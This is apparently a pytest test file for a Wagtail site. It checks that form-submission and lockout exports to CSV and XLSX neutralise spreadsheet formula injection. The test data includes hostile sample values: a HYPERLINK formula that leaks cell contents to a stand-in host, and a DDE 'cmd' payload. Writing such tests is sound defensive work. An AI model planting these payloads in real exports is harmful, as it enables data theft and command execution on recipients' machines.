"""Spreadsheet exports cannot smuggle formulas into the Redaktion's Excel: texts that begin
with = + - @ (or a tab or carriage return) arrive as plain text, in every export."""

import csv
import inspect
import io

import pytest
from axes.models import AccessAttempt
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission

from pages.factories import FeedbackFormPageFactory
from security import spreadsheets
from security.spreadsheets import neutralise

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_prefixes_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Erika", "", "1+1", "a=b", 42, None, "ÄÖÜ = Umlaute"])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value


def test_the_patch_sits_on_wagtails_export_mixin_and_upstream_still_has_its_shape():
    # Canary: if Wagtail renames or reshapes this method, the patch would silently stop.
    assert SpreadsheetExportMixin.preprocess_field_value is spreadsheets.preprocess_field_value
    upstream = inspect.signature(spreadsheets._upstream)
    assert list(upstream.parameters) == ["self", "field", "value", "export_format"]
    assert hasattr(SpreadsheetExportMixin, "write_csv_row")
    assert hasattr(SpreadsheetExportMixin, "generate_xlsx_row")


@pytest.fixture
def submissions(site_tree):
    page = FeedbackFormPageFactory(parent=site_tree.home)
    for text in HOSTILE:
        FormSubmission.objects.create(
            page=page,
            form_data={"ihr_name": text, "ihre_e_mail_adresse": "x@example.org",
                       "ihre_nachricht": text},
        )
    return page


def export(client, url, fmt):
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        content = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(content)))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_the_form_submissions_csv_has_no_formula(submissions, admin_client):
    rows = export(admin_client, reverse("wagtailforms:list_submissions", args=[submissions.pk]),
                  "csv")

    cells = [cell for row in rows[1:] for cell in row]
    for text in HOSTILE:
        assert "'" + text in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_form_submissions_xlsx_has_text_cells_only(submissions, admin_client):
    rows, sheet = export(
        admin_client, reverse("wagtailforms:list_submissions", args=[submissions.pk]), "xlsx"
    )

    values = [value for row in rows[1:] for value in row if isinstance(value, str)]
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len([value for value in values if value.startswith("'")]) == 2 * len(HOSTILE)
    assert "'+1+1" in values and "'@SUM(1,2)" in values
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"


def test_other_exports_are_covered_too(admin_client, db):
    # The "Gesperrte Anmeldungen" report: the user name is whatever an attacker typed.
    AccessAttempt.objects.create(
        username="=cmd|' /C calc'!A0", ip_address="203.0.113.5", user_agent="x",
        http_accept="*/*", path_info="/admin/login/", get_data="", post_data="",
        failures_since_start=1,
    )

    rows = export(admin_client, reverse("security_lockouts"), "csv")

    assert rows[1][0] == "'=cmd|' /C calc'!A0"
